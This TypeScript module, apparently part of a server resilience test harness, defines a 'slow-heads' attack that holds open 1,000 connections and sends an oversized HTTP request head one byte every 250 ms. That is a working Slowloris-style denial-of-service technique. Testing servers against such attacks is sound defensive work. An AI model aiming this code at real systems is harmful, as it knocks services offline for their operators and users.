// Heads that never end: a byte now and then, so that every connection looks busy.

import type { Attack } from '../scene/attack.ts'
import { add, loops, open, send } from '../scene/wire.ts'

const CONNECTIONS = 1_000
const BETWEEN_BYTES_MS = 250

export const attacks: readonly Attack[] = [
  {
    name: 'slow-heads',
    does: `${CONNECTIONS} connections whose heads arrive byte by byte`,
    attack: (target, tally, until) =>
      loops(
        CONNECTIONS,
        until,
        async () => {
          const socket = await open({ port: target.port })
          add(tally, 'connections')
          const head = `GET / HTTP/1.1\r\nHost: ${target.honestHost}\r\nX: ${'y'.repeat(10_000)}`
          for (let at = 0; at < head.length && !until.aborted; at++) {
            if (!(await send(socket, head[at]!, until))) break
            add(tally, 'bytes')
            await Bun.sleep(BETWEEN_BYTES_MS)
          }
          socket.destroy()
        },
        100,
      ),
  },
]
